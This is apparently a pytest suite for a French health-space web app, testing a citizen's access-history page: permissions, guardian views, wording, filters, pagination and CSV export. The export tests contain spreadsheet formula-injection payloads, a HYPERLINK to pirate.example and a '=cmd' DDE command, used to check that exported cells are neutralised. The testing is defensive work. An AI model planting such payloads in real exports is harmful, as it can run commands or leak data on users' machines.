"""The citizen's « Historique des accès »: their rows only, in plain French, filtered, paginated, exported as CSV."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from dateutil.relativedelta import relativedelta
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from mes.acces.models import AppHabilitation
from mes.acces.selectors import HistoryFilters, history_export_lines, history_page
from mes.acces.services import journal_append, journal_verify_and_record
from mes.comptes.selectors.profiles import ACTIVE_PROFILE_SESSION_KEY
from tests.factories import CitizenFactory, ProfessionalFactory, UserFactory

pytestmark = pytest.mark.django_db

URL = "/historique/"
EXPORT_URL = "/historique/export.csv"


@pytest.fixture
def child(citizen):
    """Léa, 8, whose legal representative is the citizen."""
    lea = CitizenFactory(
        user=None, first_names="Léa Anne", birth_name="DURAND", birth_date=timezone.localdate() - relativedelta(years=8)
    )
    lea.legal_representatives.add(citizen.user)
    return lea


def _signed_in(client, user):
    client.force_login(user)  # writes a « compte.connexion » row in the citizen's journal
    return client


def _content(response) -> str:
    return response.content.decode()


def _csv(response) -> tuple[str, list[list[str]]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


# --- Authorization -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [URL, EXPORT_URL])
def test_visitors_are_asked_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("url", [URL, EXPORT_URL])
@pytest.mark.parametrize("role", ["professional", "editor", "commission", "admin"])
def test_other_roles_are_refused(client, persona_users, url, role):
    client.force_login(persona_users[role])
    assert client.get(url).status_code == 403


def test_a_citizen_account_without_a_space_is_refused(client):
    user = UserFactory(role="citizen")
    client.force_login(user)
    assert client.get(URL).status_code == 403
    assert client.get(EXPORT_URL).status_code == 403


def test_a_citizen_sees_only_the_rows_of_their_own_space(client, citizen, other_citizen, professional):
    journal_append(
        actor=professional.user, action="dossier.document.consulte", citizen=citizen, details={"titre": "IRM"}
    )
    journal_append(
        actor=professional.user, action="dossier.document.consulte", citizen=other_citizen, details={"titre": "Secret"}
    )
    journal_append(actor=None, action="test.sans_personne", details={"titre": "Personne"})
    page = _content(_signed_in(client, citizen.user).get(URL))
    assert "IRM" in page
    assert "Secret" not in page and "Personne" not in page
    text, _rows = _csv(client.get(EXPORT_URL))
    assert "IRM" in text and "Secret" not in text and "Personne" not in text


def test_the_verification_of_the_journal_does_not_appear(client, citizen):
    journal_verify_and_record()
    page = _content(_signed_in(client, citizen.user).get(URL))
    assert "Vérification de l’intégrité du journal" not in page


def test_a_parent_reads_the_history_of_the_child_they_act_for(client, citizen, child, professional):
    journal_append(actor=professional.user, action="acces.urgence.ouvert", citizen=child, details={"motif": "Chute"})
    journal_append(
        actor=professional.user, action="acces.urgence.ouvert", citizen=citizen, details={"motif": "Malaise"}
    )
    _signed_in(client, citizen.user)
    own = _content(client.get(URL))
    assert "Malaise" in own and "Chute" not in own
    session = client.session
    session[ACTIVE_PROFILE_SESSION_KEY] = str(child.public_id)
    session.save()
    page = _content(client.get(URL))
    assert "Chute" in page and "Malaise" not in page
    assert "vous agissez en tant que représentant légal" in page
    text, _rows = _csv(client.get(EXPORT_URL))
    assert "Chute" in text and "Malaise" not in text


def test_another_parent_is_named_and_the_viewer_is_you(client, citizen, child):
    other_parent = UserFactory(role="citizen", first_name="Paul", last_name="Martin")
    child.legal_representatives.add(other_parent)
    journal_append(actor=other_parent, action="compte.profil.bascule", citizen=child)
    journal_append(actor=citizen.user, action="compte.profil.bascule", citizen=child)
    page = history_page(child, viewer=citizen.user)
    assert [line.who for line in page.lines] == ["Vous", "Paul Martin"]
    assert page.lines[0].what == "Ouverture de l’espace par un représentant légal"


# --- Wording ---------------------------------------------------------------------------------------------------


def test_rows_are_worded_in_plain_french(client, citizen, professional):
    end = timezone.make_aware(datetime(2031, 3, 4, 18, 30))
    journal_append(
        actor=professional.user,
        action="acces.code.utilise",
        citizen=citizen,
        details={"perimetre": ["documents", "mesures"], "fin": end.isoformat()},
    )
    journal_append(
        actor=professional.user,
        action="dossier.document.consulte",
        citizen=citizen,
        details={"acces": "delegation", "titre": "Compte rendu d’IRM"},
    )
    journal_append(
        actor=professional.user,
        action="acces.urgence.ouvert",
        citizen=citizen,
        details={"motif": "Patient inconscient aux urgences", "acces": "emergency"},
    )
    journal_append(actor=None, action="compte.espace.active", citizen=citizen)
    journal_append(actor=None, actor_label="Appli Diabète", action="test.application", citizen=citizen)
    page = history_page(citizen, viewer=citizen.user)
    app, service, emergency, document, code = page.lines
    assert code.who == "Dr Jean Docteur (Médecin)"
    assert code.what == "Utilisation d’un code d’accès temporaire"
    assert code.details == [("Périmètre", "documents, mesures de santé"), ("Fin de l’accès", "4 mars 2031 à 18:30")]
    assert document.details == [("Document", "Compte rendu d’IRM"), ("Cadre de l’accès", "code d’accès")]
    assert emergency.details == [
        ("Motif", "Patient inconscient aux urgences"),
        ("Cadre de l’accès", "accès en urgence"),
    ]
    assert service.who == "Mon espace santé" and app.who == "Appli Diabète"
    assert app.what == "Action enregistrée (test.application)"

    html = _content(_signed_in(client, citizen.user).get(URL))
    assert "Par : Dr Jean Docteur (Médecin)" in html
    assert "Par : Vous" in html  # the sign-in row
    assert "Connexion à l’espace" in html
    assert "Périmètre : documents, mesures de santé" in html
    assert "Motif : Patient inconscient aux urgences" in html


@pytest.mark.parametrize(
    ("way", "label"),
    [
        ("treating_doctor", "médecin traitant"),
        ("care_team", "équipe de soins"),
        ("delegation", "code d’accès"),
        ("emergency", "accès en urgence"),
    ],
)
def test_how_the_professional_got_in(citizen, professional, way, label):
    journal_append(actor=professional.user, action="dossier.mesures.consulte", citizen=citizen, details={"acces": way})
    (line,) = history_page(citizen, viewer=citizen.user).lines
    assert line.details == [("Cadre de l’accès", label)]


def test_a_whole_space_scope_is_named_as_such(citizen, professional):
    scopes = ["documents", "mesures", "profil", "vaccinations"]
    journal_append(actor=citizen.user, action="acces.code.cree", citizen=citizen, details={"perimetre": scopes})
    (line,) = history_page(citizen, viewer=citizen.user).lines
    assert line.details == [("Périmètre", "tout l’espace")]


# --- Filters ---------------------------------------------------------------------------------------------------


@pytest.fixture
def mixed_rows(citizen, professional):
    """One row of each kind of author: the citizen, two professionals, the platform, a connected service."""
    from mes.acces.policy import AppActor
    from tests.api.conftest import make_application

    habilitation = make_application(name="Suivi Tension Plus").habilitation
    journal_append(actor=AppActor(habilitation), action="test.app", citizen=citizen, details={"titre": "ligne-app"})
    nurse = ProfessionalFactory(user__first_name="Inès", user__last_name="Soin", profession="infirmier")
    journal_append(actor=citizen.user, action="acces.code.cree", citizen=citizen, details={"titre": "ligne-citoyen"})
    journal_append(actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": "ligne-medecin"})
    journal_append(actor=nurse.user, action="test.lecture", citizen=citizen, details={"titre": "ligne-infirmiere"})
    journal_append(actor=None, action="test.service", citizen=citizen, details={"titre": "ligne-service"})
    return nurse


def _titles(html: str) -> set[str]:
    titles = ("ligne-citoyen", "ligne-medecin", "ligne-infirmiere", "ligne-service", "ligne-app")
    return {title for title in titles if title in html}


def test_the_actor_filter_offers_the_authors_of_the_rows(client, citizen, professional, mixed_rows):
    html = _content(_signed_in(client, citizen.user).get(URL))
    assert "Tous les auteurs" in html
    assert "Vous / vos représentants" in html
    assert "Dr Jean Docteur (Médecin)" in html
    assert "Inès Soin (Infirmier ou infirmière)" in html
    assert "Mon espace santé</option>" in html
    assert "Service « Suivi Tension Plus »" in html


def test_filter_by_actor(client, citizen, professional, mixed_rows):
    _signed_in(client, citizen.user)
    assert _titles(_content(client.get(URL, {"auteur": "personnes"}))) == {"ligne-citoyen"}
    assert _titles(_content(client.get(URL, {"auteur": "service"}))) == {"ligne-service"}
    doctor = f"pro-{professional.user.public_id}"
    assert _titles(_content(client.get(URL, {"auteur": doctor}))) == {"ligne-medecin"}
    nurse = f"pro-{mixed_rows.user.public_id}"
    assert _titles(_content(client.get(URL, {"auteur": nurse}))) == {"ligne-infirmiere"}
    app = f"service-{AppHabilitation.objects.get(name='Suivi Tension Plus').public_id}"
    assert _titles(_content(client.get(URL, {"auteur": app}))) == {"ligne-app"}
    assert _titles(_content(client.get(URL))) == {
        "ligne-citoyen",
        "ligne-medecin",
        "ligne-infirmiere",
        "ligne-service",
        "ligne-app",
    }


def test_a_professional_who_never_acted_in_the_space_is_not_a_choice(client, citizen, other_citizen, mixed_rows):
    stranger = ProfessionalFactory(user__first_name="Zoé", user__last_name="Ailleurs")
    journal_append(actor=stranger.user, action="test.lecture", citizen=other_citizen, details={"titre": "ailleurs"})
    _signed_in(client, citizen.user)
    assert "Zoé Ailleurs" not in _content(client.get(URL))
    response = client.get(URL, {"auteur": f"pro-{stranger.user.public_id}"})
    html = _content(response)
    assert "Choisissez un auteur dans la liste." in html
    # The refused filter is ignored: every row of the space is listed, none of the other space.
    assert _titles(html) == {"ligne-citoyen", "ligne-medecin", "ligne-infirmiere", "ligne-service", "ligne-app"}
    assert "ailleurs" not in html


def test_filter_by_period(citizen, professional):
    journal_append(actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": "aujourd’hui"})
    today = timezone.localdate()
    filters = HistoryFilters(date_from=today, date_to=today)
    assert len(history_page(citizen, viewer=citizen.user, filters=filters).lines) == 1
    before = HistoryFilters(date_to=today - timedelta(days=1))
    assert history_page(citizen, viewer=citizen.user, filters=before).lines == []
    after = HistoryFilters(date_from=today + timedelta(days=1))
    assert history_page(citizen, viewer=citizen.user, filters=after).lines == []


def test_the_period_follows_the_days_of_paris(citizen):
    """A row written at 23:30 in Paris on 1 March (22:30 UTC) belongs to 1 March, not to the next day."""
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO acces_journalentry (action, citizen_id, created_at) VALUES (%s, %s, %s)",
            ["test.tard", citizen.pk, "2025-03-01T22:30:00+00:00"],
        )
    day = date(2025, 3, 1)
    on_the_day = HistoryFilters(date_from=day, date_to=day)
    assert [line.what for line in history_page(citizen, viewer=citizen.user, filters=on_the_day).lines] == [
        "Action enregistrée (test.tard)"
    ]
    next_day = HistoryFilters(date_from=day + timedelta(days=1))
    assert history_page(citizen, viewer=citizen.user, filters=next_day).lines == []


def test_period_filter_through_the_page(client, citizen):
    _signed_in(client, citizen.user)
    today = timezone.localdate()
    html = _content(client.get(URL, {"du": today.isoformat(), "au": today.isoformat()}))
    assert "Connexion à l’espace" in html and "Effacer les filtres" in html
    yesterday = (today - timedelta(days=1)).strftime("%d/%m/%Y")
    html = _content(client.get(URL, {"au": yesterday}))
    assert "Aucun événement ne correspond à ces critères." in html


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"du": "31/02/2025"}, "Saisissez une date valide"),
        ({"au": "demain"}, "Saisissez une date valide"),
        ({"du": "2025-03-10", "au": "2025-03-01"}, "La date de fin doit être postérieure ou égale à la date de début."),
    ],
)
def test_invalid_or_reversed_dates_are_explained_not_a_crash(client, citizen, params, message):
    _signed_in(client, citizen.user)
    response = client.get(URL, params)
    assert response.status_code == 200
    html = _content(response)
    assert message in html
    assert "Connexion à l’espace" in html  # the invalid filter is ignored
    export = client.get(EXPORT_URL, params)
    assert export.status_code == 400
    assert message in _content(export)


# --- Pagination ------------------------------------------------------------------------------------------------


def test_keyset_pagination_walks_the_rows_both_ways(client, citizen, professional):
    for number in range(45):
        journal_append(
            actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": f"n°{number}"}
        )
    first = history_page(citizen, viewer=citizen.user)
    assert [line.details[0][1] for line in first.lines] == [f"n°{n}" for n in range(44, 24, -1)]
    assert first.newer_cursor is None and first.older_cursor == first.lines[-1].seq and first.is_first
    second = history_page(citizen, viewer=citizen.user, before=first.older_cursor)
    assert [line.details[0][1] for line in second.lines] == [f"n°{n}" for n in range(24, 4, -1)]
    third = history_page(citizen, viewer=citizen.user, before=second.older_cursor)
    assert [line.details[0][1] for line in third.lines] == [f"n°{n}" for n in range(4, -1, -1)]
    assert third.older_cursor is None and third.newer_cursor == third.lines[0].seq
    back = history_page(citizen, viewer=citizen.user, after=third.newer_cursor)
    assert back.lines == second.lines
    assert back.newer_cursor == second.lines[0].seq and back.older_cursor == second.lines[-1].seq
    assert history_page(citizen, viewer=citizen.user, after=back.newer_cursor).lines == first.lines


def test_pagination_links_keep_the_filters(client, citizen, professional):
    for number in range(25):
        journal_append(
            actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": f"n°{number}"}
        )
    _signed_in(client, citizen.user)
    doctor = f"pro-{professional.user.public_id}"
    html = _content(client.get(URL, {"auteur": doctor}))
    assert "Événements plus anciens" in html and "n°24" in html and "n°4" not in html
    page = history_page(citizen, viewer=citizen.user, filters=HistoryFilters(actor=doctor))
    assert f"auteur={doctor}&amp;avant={page.older_cursor}" in html
    older = _content(client.get(URL, {"auteur": doctor, "avant": page.older_cursor}))
    assert "n°4" in older and "n°0" in older and "n°5" not in older
    assert "Connexion à l’espace" not in older  # the filter still holds
    assert "Événements plus récents" in older and "Événements les plus récents" in older


def test_a_damaged_cursor_shows_the_newest_rows(client, citizen):
    _signed_in(client, citizen.user)
    for value in ("abc", "-3", "9" * 40):
        response = client.get(URL, {"avant": value})
        assert response.status_code == 200
        assert "Connexion à l’espace" in _content(response)


def test_a_page_costs_the_same_number_of_queries_whatever_the_rows(client, citizen, professional):
    _signed_in(client, citizen.user)
    client.get(URL)  # warm the session
    for number in range(3):
        journal_append(actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": f"{number}"})
    with CaptureQueriesContext(connection) as few:
        client.get(URL)
    others = [ProfessionalFactory() for _ in range(5)]
    for number in range(30):
        actor = others[number % 5].user
        journal_append(actor=actor, action="test.lecture", citizen=citizen, details={"titre": f"{number}"})
    with CaptureQueriesContext(connection) as many:
        client.get(URL)
    assert len(many) == len(few)


# --- CSV export ------------------------------------------------------------------------------------------------


def test_export_is_a_spreadsheet_friendly_csv(client, citizen, professional):
    _signed_in(client, citizen.user)
    journal_append(
        actor=professional.user,
        action="test.document",
        citizen=citizen,
        details={"titre": '=HYPERLINK("http://pirate.example/?x="&A1;"clic")', "acces": "care_team"},
    )
    response = client.get(EXPORT_URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="historique-des-acces-')
    text, rows = _csv(response)
    assert text.startswith("\ufeffDate;Auteur;Action;Détail\r\n")
    assert rows[0] == ["Date", "Auteur", "Action", "Détail"]
    document = rows[1]
    assert document[1] == "Dr Jean Docteur (Médecin)"
    assert document[2] == "Action enregistrée (test.document)"
    # The title comes after « Document : », so the cell is text, never a formula.
    assert document[3].startswith("Document : =HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "Cadre de l’accès : équipe de soins" in document[3]
    assert rows[2][1:3] == ["Vous", "Connexion à l’espace"]
    now = timezone.localtime()
    assert rows[2][0].startswith(now.strftime("%d/%m/%Y"))


def test_export_neutralises_cells_that_start_a_formula(client, citizen):
    _signed_in(client, citizen.user)
    journal_append(actor=None, actor_label="=cmd|' /C calc'!A0", action="test.application", citizen=citizen)
    journal_append(actor=None, actor_label="@SUM(1+1)", action="test.application", citizen=citizen)
    _text, rows = _csv(client.get(EXPORT_URL))
    authors = [row[1] for row in rows[1:3]]
    assert authors == ["'@SUM(1+1)", "'=cmd|' /C calc'!A0"]


def test_export_applies_the_filters(client, citizen, professional, mixed_rows):
    _signed_in(client, citizen.user)
    _text, rows = _csv(client.get(EXPORT_URL, {"auteur": "service"}))
    assert [row[3] for row in rows[1:]] == ["Document : ligne-service"]
    today = timezone.localdate()
    _text, rows = _csv(client.get(EXPORT_URL, {"au": (today - timedelta(days=1)).isoformat()}))
    assert rows == [["Date", "Auteur", "Action", "Détail"]]


def test_export_reads_the_rows_by_chunks(citizen, professional, monkeypatch):
    for number in range(7):
        journal_append(actor=professional.user, action="test.lecture", citizen=citizen, details={"titre": f"{number}"})
    monkeypatch.setattr("mes.acces.selectors.EXPORT_CHUNK_SIZE", 3)
    with CaptureQueriesContext(connection) as queries:
        lines = list(history_export_lines(citizen, viewer=citizen.user))
    assert [line.details[0][1] for line in lines] == ["6", "5", "4", "3", "2", "1", "0"]
    assert len(queries) == 3  # 3 + 3 + 1 rows


def test_the_export_link_carries_the_filters(client, citizen):
    _signed_in(client, citizen.user)
    html = _content(client.get(URL, {"auteur": "personnes"}))
    assert f'href="{EXPORT_URL}?auteur=personnes"' in html
    assert "Exporter ces événements (CSV)" in html


def test_a_measure_added_by_a_connected_service_reads_with_its_name_and_kind(client, citizen):
    from mes.acces.policy import AppActor
    from tests.api.conftest import make_application

    habilitation = make_application(name="Balance Connectée").habilitation
    journal_append(
        actor=AppActor(habilitation),
        action="dossier.mesure.ajoutee",
        citizen=citizen,
        details={"kind": "poids", "source_kind": "app"},
    )
    journal_append(actor=citizen.user, action="test.autre", citizen=citizen, details={"kind": "pas-une-mesure"})
    html = _content(_signed_in(client, citizen.user).get(URL))
    assert "Service « Balance Connectée »" in html
    assert "Ajout d’une mesure de santé" in html
    assert "Poids" in html
    assert "service connecté à votre espace" in html
    assert "pas-une-mesure" not in html
